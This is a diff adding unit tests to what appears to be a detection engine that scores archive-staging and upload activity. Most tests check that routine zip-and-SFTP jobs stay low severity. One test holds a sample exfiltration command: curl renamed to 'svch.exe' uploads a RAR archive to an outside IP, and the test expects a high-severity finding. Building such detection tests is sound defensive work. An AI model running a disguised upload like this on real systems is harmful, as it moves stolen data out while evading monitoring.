@@ -251,6 +251,41 @@ TEST(PackingInnocent, WhatAdministratorsAndOfficesPack) {
   }
 }
 
+TEST(PackingInnocent, ANightlyJobForAPartnerIsARoutine) {
+  std::vector<Fact> facts;
+  for (int day = 0; day < 6; ++day) {
+    facts.push_back(process_fact(at(day * kDaySeconds), "C:\\Scripts\\7za.exe",
+                                 "C:\\Scripts\\7za.exe a -tzip -pX1y2z3 C:\\Temp\\report_2022061" +
+                                     std::to_string(day) + ".zip C:\\Reports\\*.csv"));
+    facts.push_back(process_fact(at(day * kDaySeconds + 60), "C:\\Scripts\\WinSCP.com",
+                                 "WinSCP.com /command \"open sftp://svc@sftp.partner.example\" "
+                                 "\"put C:\\Temp\\report_2022061" +
+                                     std::to_string(day) + ".zip\""));
+  }
+  const auto run = judge_winrar(std::move(facts));
+  EXPECT_LE(highest(run), Severity::low) << fake::summary_of(run.context->findings);
+  EXPECT_THAT(run.context->findings, Not(SizeIs(testing::Gt(1U))));
+}
+
+TEST(PackingInnocent, ASupportToolThatPacksWhatItGatheredIsNotHigh) {
+  const auto run =
+      judge_winrar({process_fact(at(0), "C:\\Windows\\Temp\\v\\7za.exe",
+                                 "C:\\Windows\\Temp\\v\\7za.exe a -pVendor1 "
+                                 "C:\\Windows\\Temp\\v\\diag.zip C:\\Windows\\Temp\\v\\logs")});
+  EXPECT_LE(highest(run), Severity::medium) << fake::summary_of(run.context->findings);
+}
+
+TEST(PackingActs, AClientUnderAnotherNameIsKnownByItsVersion) {
+  const auto run = judge_facts(modules::staging,
+                               {start_of("C:\\PerfLogs\\svch.exe", "curl.exe",
+                                         "svch.exe -T C:\\PerfLogs\\1.rar http://203.0.113.9/")});
+  ASSERT_THAT(run.context->findings, SizeIs(1));
+  EXPECT_GE(severity_of(run.context->findings[0]), Severity::high);
+  const auto plain = judge_facts(modules::staging,
+                                 {start_of("C:\\T\\curl.exe", "curl.exe", "curl.exe http://a/")});
+  EXPECT_THAT(plain.context->findings, IsEmpty());
+}
+
 TEST(PackingInnocent, EverydayUploads) {
   const auto run = judge_facts(
       modules::staging,
